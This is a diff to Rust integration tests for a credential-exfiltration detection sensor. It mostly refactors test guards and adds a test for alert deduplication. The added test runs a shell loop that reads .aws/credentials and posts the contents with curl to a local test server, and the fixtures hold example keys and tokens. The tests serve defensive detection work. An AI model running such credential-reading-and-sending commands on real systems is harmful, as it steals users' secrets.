@@ -46,9 +46,7 @@ fn findings<'a>(docs: &'a [Value], action: &str) -> Vec<&'a Value> {
 
 #[test]
 fn reader_and_sender_in_one_lineage_is_exfiltration() {
-    if !kernel_tests_enabled("exfil") {
-        return;
-    }
+    let Some(_serial) = kernel_tests_enabled("exfil") else { return };
     let user = TestUser::create("exfil");
     let store = user.write_file(".aws/credentials", "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n");
     let srv = http_server();
@@ -79,9 +77,7 @@ fn reader_and_sender_in_one_lineage_is_exfiltration() {
 
 #[test]
 fn stored_token_sent_after_the_window_is_caught_by_provenance() {
-    if !kernel_tests_enabled("provenance") {
-        return;
-    }
+    let Some(_serial) = kernel_tests_enabled("provenance") else { return };
     let user = TestUser::create("prov");
     let srv = http_server();
     let token = "kubetoken-0123456789abcdefghij";
@@ -118,9 +114,7 @@ fn stored_token_sent_after_the_window_is_caught_by_provenance() {
 
 #[test]
 fn owner_program_sending_its_token_to_its_endpoint_is_quiet() {
-    if !kernel_tests_enabled("owner") {
-        return;
-    }
+    let Some(_serial) = kernel_tests_enabled("owner") else { return };
     let user = TestUser::create("owner");
     let srv = http_server();
     let token = "ownertoken-0123456789abcdefghij";
@@ -153,9 +147,7 @@ fn owner_program_sending_its_token_to_its_endpoint_is_quiet() {
 
 #[test]
 fn one_token_used_by_two_users_is_reuse() {
-    if !kernel_tests_enabled("reuse") {
-        return;
-    }
+    let Some(_serial) = kernel_tests_enabled("reuse") else { return };
     let alice = TestUser::create("ra");
     let bob = TestUser::create("rb");
     let srv = http_server();
@@ -180,9 +172,7 @@ fn one_token_used_by_two_users_is_reuse() {
 
 #[test]
 fn oauth_grants_device_code_flows_and_new_scopes() {
-    if !kernel_tests_enabled("oauth") {
-        return;
-    }
+    let Some(_serial) = kernel_tests_enabled("oauth") else { return };
     let user = TestUser::create("oauth");
     let srv = http_server();
     let secret = "clientsecret-0123456789abcdefghij";
@@ -226,9 +216,7 @@ fn oauth_grants_device_code_flows_and_new_scopes() {
 
 #[test]
 fn refresh_grant_with_a_stored_token_by_a_non_owner_is_caught() {
-    if !kernel_tests_enabled("refresh") {
-        return;
-    }
+    let Some(_serial) = kernel_tests_enabled("refresh") else { return };
     let user = TestUser::create("refr");
     let srv = http_server();
     let rt = "1//0grefreshtoken-abcdefghijklmnopqrstuvwxyz";
@@ -260,9 +248,7 @@ fn refresh_grant_with_a_stored_token_by_a_non_owner_is_caught() {
 
 #[test]
 fn long_lived_long_term_and_unbound_credentials_are_low_findings() {
-    if !kernel_tests_enabled("weak") {
-        return;
-    }
+    let Some(_serial) = kernel_tests_enabled("weak") else { return };
     let srv = http_server();
     let sensor = Sensor::start(&["--sensitive-destination", "127.0.0.1"]);
     let b64 = |s: &str| base64_url(s.as_bytes());
@@ -305,4 +291,32 @@ fn base64_url(b: &[u8]) -> String {
         }
     }
     out
+}
+
+#[test]
+fn a_loop_is_one_alert_then_a_summary_with_its_count() {
+    let Some(_serial) = kernel_tests_enabled("dedup") else { return };
+    let user = TestUser::create("dedup");
+    user.write_file(".aws/credentials", "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n");
+    let srv = http_server();
+    let sensor = Sensor::start(&["--correlation-window", "3"]);
+    run_as(
+        &user,
+        &format!(
+            "for i in 1 2 3 4; do T=$(cat .aws/credentials); curl -s -d \"$T\" http://127.0.0.1:{}/loop -o /dev/null; done",
+            srv.1
+        ),
+    );
+    let summary = sensor.wait_for("summary", WAIT, |d| {
+        is_action(d, "credential-exfiltration") && d["tokenwarden"]["correlation"]["summary"] == true
+    });
+    assert_eq!(summary["tokenwarden"]["correlation"]["count"], 4, "{summary}");
+    let docs = sensor.stop();
+    let firsts = docs
+        .iter()
+        .filter(|d| {
+            is_action(d, "credential-exfiltration") && d["tokenwarden"]["correlation"]["summary"].is_null()
+        })
+        .count();
+    assert_eq!(firsts, 1, "one alert for the loop, not four");
 }
